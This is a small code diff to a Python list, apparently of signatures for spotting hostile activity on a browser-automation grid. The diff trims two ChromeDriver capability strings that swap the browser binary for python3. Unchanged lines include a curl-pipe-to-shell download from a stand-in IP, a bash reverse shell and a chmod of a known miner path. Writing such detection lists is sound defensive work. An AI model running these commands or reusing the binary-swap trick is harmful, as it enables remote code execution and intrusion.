@@ -16,8 +16,8 @@ FOREIGN = (
     "sh: curl -fsSL http://203.0.113.7/a.sh | sh",
     "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
     "+ chmod +x /tmp/kdevtmpfsi",
-    "  (The process started from chrome location /usr/bin/python3 is no longer running, so ChromeDriver is assuming ...)",
-    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [-cimport base64;...], binary: /usr/bin/python3}}]",
+    "  (The process started from chrome location /usr/bin/python3 is no longer running, so ChromeDriver ...)",
+    " [Capabilities {browserName: chrome, goog:chromeOptions: {args: [-cimport base64], binary: /usr/bin/python3}}]",
     '{"browserName": "firefox", "moz:firefoxOptions": {"binary": "/bin/bash", "args": ["-c", "..."]}}',
 )
 ATTEMPTS = (
